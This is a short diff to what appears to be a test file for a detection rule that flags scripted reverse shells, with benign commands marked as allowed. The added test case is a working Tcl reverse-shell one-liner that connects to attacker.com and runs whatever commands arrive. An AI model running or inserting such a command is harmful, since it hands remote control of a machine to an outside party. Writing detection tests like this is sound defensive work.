@@ -33,3 +33,5 @@ node -e 'require("net").connect(80, "example.com").end()'
 python -m http.server 8000
 # ok: bash.scripted-reverse-shell
 ruby -rsocket -e 'puts Socket.gethostname'
+# ruleid: bash.scripted-reverse-shell
+echo 'set s [socket attacker.com 12345];while 1 { puts -nonewline $s "> ";flush $s;gets $s c;set e "exec $c";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }' | tclsh
